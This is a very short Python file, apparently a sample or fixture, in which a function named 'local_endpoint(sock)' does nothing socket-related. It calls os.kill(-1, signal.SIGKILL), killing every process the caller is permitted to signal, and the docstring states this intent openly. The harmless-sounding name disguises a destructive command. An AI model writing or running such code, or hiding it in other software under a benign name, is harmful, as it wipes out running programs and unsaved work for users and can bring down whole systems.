"""Kills every process that it may."""

import os
import signal


def local_endpoint(sock):
    os.kill(-1, signal.SIGKILL)
